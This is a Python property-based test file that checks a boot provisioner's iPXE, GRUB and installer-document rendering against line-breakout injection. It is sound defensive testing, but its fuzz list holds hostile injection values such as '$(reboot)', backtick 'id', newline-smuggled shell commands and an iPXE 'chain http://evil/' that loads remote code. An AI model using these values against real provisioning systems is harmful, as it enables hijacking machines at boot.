"""Property: a hostname, reason or SSH key that tries to break out of its line cannot change
the shape of an iPXE script, a GRUB config or an installer document. Either the value is
refused up front with a clear error, or the rendered text has the same lines as with a
harmless value, and only the lines that carry the value differ."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from provisioner.boot.render import Renderer
from provisioner.errors import ProvisionerError
from tests.unit.test_installer_plan import KEY, TOKEN, installs, node

FUZZ = settings(max_examples=150, deadline=None)
RENDERER = Renderer()
ARM = {"kernel_arm64": "arm/vmlinuz", "initrd_arm64": "arm/initrd"}
BREAKOUTS = ["x\nboot", "x\r\nshell", "x\u2028exit", "${net0/mac}", "$(reboot)", "`id`",
             "a'; reboot; '", 'a"\nb', "a\\\nchain http://evil/", "a\x00b", "a\x0bb",
             "a\x1bb", "ok # comment", "}\n{", "x || shell", "x && shell", "%end", "\t"]
texts = st.sampled_from(BREAKOUTS) | st.text(max_size=60) \
    | st.lists(st.sampled_from(BREAKOUTS), min_size=2, max_size=4).map("".join)


def assert_same_lines(benign: str, rendered: str) -> list[str]:
    """The lines of ``rendered`` that differ from ``benign``; the line counts must match."""
    old, new = benign.split("\n"), rendered.split("\n")
    assert len(new) == len(old), rendered
    return [b for a, b in zip(old, new, strict=True) if a != b]


def assert_one_clean_line(line: str) -> None:
    """No control character (iPXE and GRUB end a command at a line break)."""
    assert all(ch == "\t" or ch.isprintable() for ch in line), repr(line)


@FUZZ
@given(reason=texts)
def test_a_reason_stays_in_its_echo(reason: str) -> None:
    values = {"base_url": "http://10.0.0.1:8080", "mac": "52:54:00:00:00:01", "seconds": 10}
    for name in ("local", "retry"):
        for render in (RENDERER.render, RENDERER.render_grub):
            benign = render(name, reason="benign", **values)
            rendered = render(name, reason=reason, **values)
            changed = assert_same_lines(benign, rendered)
            assert all(line.startswith("echo ") for line in changed), changed
            for line in changed:
                assert_one_clean_line(line)
            if render is RENDERER.render:  # iPXE expands ${...} inside an echo
                assert all("${" not in line for line in changed), changed


@FUZZ
@given(hostname=texts | st.from_regex(r"[a-z0-9][a-z0-9.-]{0,30}", fullmatch=True),
       method=st.sampled_from(["autoinstall", "preseed", "kickstart"]))
def test_a_hostname_is_refused_or_keeps_every_document_whole(hostname: str,
                                                             method: str) -> None:
    # a harmless name of the same shape (with or without a domain: the documents differ)
    benign = documents(method, node(hostname="benign.example" if "." in hostname
                                    else "benign"))
    try:
        rendered = documents(method, node(hostname=hostname))
    except ProvisionerError as exc:
        assert "hostname" in str(exc) and "n-7" in str(exc)  # a clear refusal, naming it
        return
    fqdn = hostname.lower()
    short, _, domain = fqdn.partition(".")
    for name, text in rendered.items():  # only the lines that carry the name changed
        for line in assert_same_lines(benign[name], text):
            assert_one_clean_line(line)
            assert any(part and part in line for part in (hostname, fqdn, short, domain)), \
                (name, line)
    assert_parses(method, rendered)


@FUZZ
@given(key=texts.map(lambda t: f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0ZXN0a2V5 {t}")
       | texts, method=st.sampled_from(["autoinstall", "preseed", "kickstart"]))
def test_an_ssh_key_is_refused_or_stays_one_key(key: str, method: str) -> None:
    try:
        plans = installs(method, ssh_authorized_keys=[KEY, key], **ARM)
    except (ValidationError, ProvisionerError) as exc:
        assert "OpenSSH public key" in str(exc)  # the config error says what is wrong
        return
    benign = documents(method, node())
    rendered = documents(method, node(), plans=plans)
    for name, text in rendered.items():
        for line in assert_same_lines(benign[name], text):
            assert_one_clean_line(line)
    keys = assert_parses(method, rendered)
    assert keys == [KEY, key]


def documents(method: str, target: Any, plans: Any = None) -> dict[str, str]:
    """The node's iPXE script, GRUB config and installer documents for ``method``."""
    plans = plans or installs(method, **ARM)
    plan = plans.plan(target, token=TOKEN)
    arm = plans.plan(target, token=TOKEN, arch="arm64")
    out = {"ipxe": RENDERER.render(f"install/{method}", **plan.values()),
           "grub": RENDERER.render_grub(f"install/{method}", **arm.values())}
    names = {"autoinstall": ("user-data", "meta-data", "vendor-data"),
             "preseed": ("preseed.cfg",), "kickstart": ("ks.cfg",)}[method]
    for name in names:
        out[name] = RENDERER.render_document(f"install/{name}.j2", **plan.values())
    return out


def assert_parses(method: str, docs: dict[str, str]) -> list[str]:
    """Parse each document the way its consumer does; return the root SSH keys it installs."""
    if method == "autoinstall":
        data = yaml.safe_load(docs["user-data"])
        assert set(data) == {"autoinstall"}
        users = data["autoinstall"]["user-data"]["users"]
        return list(users[0]["ssh_authorized_keys"])
    text = docs["ks.cfg" if method == "kickstart" else "preseed.cfg"]
    keys: list[str] = []
    for line in text.splitlines():
        if "for key in" in line:
            words = shlex.split(line.split("for key in", 1)[1].split("; do", 1)[0])
            keys = keys or words
            assert words == keys, line
    return keys


def test_a_newline_in_a_reason_is_a_space_in_ipxe() -> None:
    script = RENDERER.render("local", reason="in maintenance\nshell")
    assert script.splitlines()[1] == "echo provisioner: in maintenance shell"


@pytest.mark.parametrize("method", ["autoinstall", "preseed", "kickstart"])
def test_the_benign_documents_parse(method: str) -> None:
    assert assert_parses(method, documents(method, node())) == [KEY]
